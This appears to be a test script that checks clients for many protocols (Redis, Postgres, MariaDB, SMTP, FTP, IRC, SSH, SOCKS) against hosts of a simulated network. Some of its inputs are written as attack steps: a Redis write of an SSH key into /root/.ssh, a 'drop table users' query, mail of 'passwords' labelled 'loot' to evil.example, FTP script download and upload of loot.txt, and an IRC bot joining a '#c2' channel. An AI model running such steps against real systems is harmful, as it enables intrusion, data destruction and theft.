#!/bin/sh
# talk-to-all: real clients of every protocol that the simulated internet speaks, each of which prints a line that
# begins with its name: "redis ok ...", or what went wrong.
result() { # NAME WANTED FILE
  if grep -q -e "$2" "$3"; then echo "$1 ok"; else echo "$1 FAILED: $(tr '\n' '|' <"$3" | tail -c 400)"; fi
}

redis() {
  redis-cli -h cache.example CONFIG SET dir /root/.ssh >redis.out 2>&1
  redis-cli -h cache.example SET x 'ssh-rsa AAAAB3' >>redis.out 2>&1
  redis-cli -h cache.example INFO server >>redis.out 2>&1
  result redis redis_version redis.out
}

postgres() {
  PGPASSWORD=hunter2 psql -h db.example -U postgres -d shop -Atc 'select 41 + 1 as sum' -c 'select 1' >postgres.out 2>&1
  result postgres '^1$' postgres.out
  PGPASSWORD=hunter3 psql 'host=dbs.example user=postgres sslmode=require' -Atc 'select 7' >postgres-tls.out 2>&1
  result postgres-tls '^7$' postgres-tls.out
}

mysql() {
  mariadb -h sql.example -u root -pletmein shop -e 'select @@version_comment; drop table users' >mysql.out 2>&1
  result mysql Debian mysql.out
}

smtp() {
  printf 'From: a@b\r\nSubject: loot\r\n\r\npasswords\r\n' >mail
  curl -sv --user alice:s3cret --mail-from bot@evil.example --mail-rcpt boss@evil.example -T mail smtp://mail.example:587 >smtp.out 2>&1
  result smtp '250 2.0.0 Ok: queued' smtp.out
  curl -svk --ssl-reqd --user alice:s3cret --mail-from a@b --mail-rcpt c@d -T mail smtp://starttls.example:587 >starttls.out 2>&1
  result starttls '250 2.0.0 Ok: queued' starttls.out
  curl -svk --max-time 5 --mail-from a@b --mail-rcpt c@d -T mail smtps://smtps.example >smtps.out 2>&1
  result smtps '250 2.0.0 Ok: queued' smtps.out
}

ftp() {
  curl -s ftp://bob:pw@files.example/tools/x.sh -o x.sh --next -s -T mail ftp://bob:pw@files.example/up/loot.txt >ftp.out 2>&1
  [ ! -s x.sh ] || echo downloaded >>ftp.out
  result ftp downloaded ftp.out
  curl -sk --ssl-reqd ftp://bob:pw@ftps.example/y.sh -o y.sh 2>ftps.out
  [ ! -s y.sh ] || echo downloaded >>ftps.out
  result ftps downloaded ftps.out
  lftp -c 'set net:timeout 5; set net:max-retries 1; open ftp://files.example; ls; cat README.txt' >lftp.out 2>&1
  result lftp update.sh lftp.out
}

irc() {
  mkdir -p .irssi
  cat >.irssi/config <<'END'
servers = ( { address = "irc.example"; chatnet = "x"; port = "6667"; autoconnect = "yes"; } );
chatnets = { x = { type = "IRC"; autosendcmd = "/wait 500;/msg #c2 reporting in"; }; };
channels = ( { name = "#c2"; chatnet = "x"; autojoin = "yes"; } );
settings = { core = { real_name = "bot"; user_name = "bot"; nick = "zombie"; }; "irc/core" = { cmd_queue_speed = "10msec"; };
  "fe-common/core" = { autolog = "yes"; autolog_level = "all"; autolog_path = "~/irc.log"; }; };
END
  (
    sleep 6
    printf '/quit\r'
    sleep 1
  ) | timeout 15 script -qc 'stty rows 24 cols 120; irssi' /dev/null >irc.out 2>&1
  result irc synced irc.log
}

ssh_banner() {
  timeout 5 ssh -v -oBatchMode=yes -oStrictHostKeyChecking=no root@shell.example >ssh.out 2>&1
  result ssh 'remote software version OpenSSH' ssh.out
}

socks() {
  curl -s --max-time 5 --socks5-hostname bob:pw@proxy.example:1080 http://hidden.example/secret >socks.out 2>&1
  curl -s --max-time 5 -p -x http://proxy.example:8080 smtp://relay.example:25 --mail-from a@b --mail-rcpt c@d -T mail >connect.out 2>&1 && echo sent >>connect.out
  result socks . socks.out
  result connect sent connect.out
}

cd /root || exit
irc &
ssh_banner &
for client in redis postgres mysql smtp ftp socks; do $client; done
wait
